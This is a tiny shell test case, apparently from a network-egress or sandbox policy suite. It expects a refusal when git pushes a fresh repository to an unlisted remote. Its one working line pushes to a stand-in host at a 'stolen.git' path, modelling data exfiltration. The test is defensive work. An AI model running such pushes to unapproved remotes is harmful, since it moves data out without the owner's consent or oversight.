# Pushes to a remote that nobody named.
#: refuse not-listed $ID.denied.example:80
mkdir -p /tmp/$ID && cd /tmp/$ID && git init -q . && git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x
git push "http://$ID.denied.example/stolen.git" HEAD:main
